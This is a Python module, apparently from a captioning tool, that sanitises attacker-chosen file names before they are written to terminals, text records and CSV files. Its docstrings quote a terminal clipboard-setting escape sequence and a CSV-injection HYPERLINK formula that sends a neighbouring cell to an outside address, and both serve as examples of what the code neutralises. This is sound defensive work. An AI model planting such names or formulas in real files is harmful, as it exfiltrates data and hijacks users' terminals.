"""Text that names a file, made safe for where it goes: valid UTF-8, one line, a terminal, a spreadsheet.

File names are the one part of a record an attacker picks freely: undecodable bytes, line breaks, terminal escape
sequences and spreadsheet formulas. These functions give each destination a form it shows without acting on it
(`captioner.outputs` for the written records, the CLI for its lines on stderr, the app for its page). Each is
deterministic and changes nothing but what it documents, so `--resume` finds a record by writing its name again.
"""

from __future__ import annotations

import os


def escape_path(path: str | os.PathLike) -> str:
    """`path` as valid UTF-8 text: undecodable bytes (surrogate escapes) become `\\xNN`; other names unchanged."""
    text = os.fspath(path)
    raw = text.encode("utf-8", "surrogateescape")
    return raw.decode("utf-8", "backslashreplace")


_TEXT_ESCAPES = {c: f"\\x{c:02x}" for c in (*range(0x20), *range(0x7f, 0xa0))} | {
    ord("\t"): "\\t", ord("\n"): "\\n", ord("\r"): "\\r"}


def text_field(text: str) -> str:
    """`text` as one field of the text format, or one line on a terminal: tabs, newlines and carriage returns as
    `\\t`, `\\n`, `\\r`, the other control characters (C0, DEL, C1) as `\\x1b`.

    Why: written raw, a file named `a<NEWLINE>b.jpg` split its record over two lines (and a tab moved the
    caption to another column), so `--resume` did not recognise it and captioned it again, appending a duplicate.
    And a name holding an escape sequence (`\\x1b]52;c;...\\x07` sets the clipboard in some terminals,
    `\\x1b[2K` erases the line) was run by the terminal that showed the text output or the "failed:" line. The
    CLI's lines on stderr pass through here too (`shown`, for its error messages).
    """
    return text.translate(_TEXT_ESCAPES)


def path_line(path: str | os.PathLike) -> str:
    """`path` on one line of text or of a terminal: `escape_path`, then `text_field`. The text format's path
    field, and every stderr line that names an input file."""
    return text_field(escape_path(path))


_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "'")


def csv_cell(text: str) -> str:
    """`text` as a CSV text cell: with one `'` in front when it starts with `=`, `+`, `-`, `@`, a tab, a carriage
    return or `'` itself.

    Why: the path cell holds whatever the files are called, and spreadsheets run a cell that starts with one of
    these as a formula: a photo named `=HYPERLINK("http://...?"&B2, "open").jpg` is a link that sends the
    caption beside it to that address when clicked (OWASP, "CSV injection"); the leading `'` makes it text. A cell
    that already starts with `'` gets another, so removing exactly one leading `'` always gives the text back.
    Numbers (the score) are not text cells and are written as they are.
    """
    return "'" + text if text.startswith(_FORMULA_START) else text


def shown(message: object) -> str:
    """`message` (one line or several) as the CLI prints it on stderr: each of its lines through `text_field`,
    so that a file name it quotes shows its control characters instead of the terminal running them, while the
    message's own line breaks (a list of missing images) stay. `text_field`'s output passes unchanged."""
    return "\n".join(text_field(line) for line in str(message).split("\n"))
